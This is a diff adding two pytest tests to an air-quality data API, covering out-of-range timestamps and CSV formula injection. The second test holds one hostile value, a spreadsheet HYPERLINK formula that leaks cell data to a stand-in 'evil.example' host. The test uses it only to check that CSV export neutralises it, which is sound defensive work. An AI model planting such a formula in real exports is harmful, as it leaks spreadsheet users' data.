@@ -88,6 +88,25 @@ def test_huge_reversed_and_unknown_are_refused_without_a_query(spied, params, co
     assert sent == []
 
 
+@pytest.mark.parametrize("params", [
+    {"from": "0001-01-01T00:00:00+01:00"},
+    {"to": "9999-12-31T23:59:00-05:00"},
+    {"from": "0001-01-01", "tz": "Asia/Tokyo"},
+    {"cursor": "0001-01-01T00:00:00+01:00"},
+], ids=["year 1 with an offset", "year 9999 with an offset", "year 1 in Tokyo", "cursor in year 1"])
+def test_times_beyond_what_a_datetime_holds_in_utc_are_422_on_every_endpoint(spied, params):
+    """Found in review: these raised OverflowError (a bare 500) instead of a clear 422."""
+    client, sent = spied
+    for url in ("/v1/measurements?stations=lab-1", "/v1/stations/lab-1/measurements", "/v1/stations/lab-1",
+                "/v1/aqi"):
+        if "cursor" in params and "measurements" not in url:
+            continue
+        r = client.get(url, params=params)
+        assert r.status_code == 422, (url, r.text)
+        assert r.json()["code"] in ("invalid_time", "invalid_parameter"), (url, r.text)
+    assert sent == []
+
+
 def test_only_get(client):
     for method in ("POST", "PUT", "PATCH", "DELETE"):
         r = client.request(method, "/v1/stations")
@@ -154,3 +173,24 @@ def test_exact_positions_appear_nowhere_unless_opted_in(client, influx):
         text = client.get(url).text
         assert "52.0907" not in text and "5.1214" not in text, url
         assert "52.091" in text, url
+
+
+def test_a_station_name_that_looks_like_a_formula_is_plain_text_in_csv(client, influx):
+    """Found in review: a volunteer controls the name (the meta message); in a spreadsheet
+    '=HYPERLINK(…)' would run. Such cells get a leading ' (OWASP's advice)."""
+    import csv
+    import io
+    import time
+
+    now = int(time.time())
+    hostile = '=HYPERLINK("http://evil.example/"&A1,"Click")'
+    influx.write(meta_to_line("lab-5", {"name": hostile, "lat": 51.0, "lon": 4.0}, now))
+    write(influx, [pm_line("lab-5", now - 60, pm25=-1.5, pm25_atm=3.0)])
+    for url in ("/v1/latest?format=csv", "/v1/aqi?format=csv&stations=lab-5"):
+        rows = list(csv.DictReader(io.StringIO(client.get(url).text)))
+        (row,) = [r for r in rows if r["station"] == "lab-5"]
+        assert row["name"] == "'" + hostile, url
+    latest = list(csv.DictReader(io.StringIO(client.get("/v1/latest?format=csv").text)))
+    (row,) = [r for r in latest if r["station"] == "lab-5"]
+    assert row[next(k for k in row if k.startswith("pm25 "))] == "-1.5"  # numbers stay numbers
+    assert client.get("/v1/latest").json()["results"][0]["name"] == hostile  # JSON unchanged
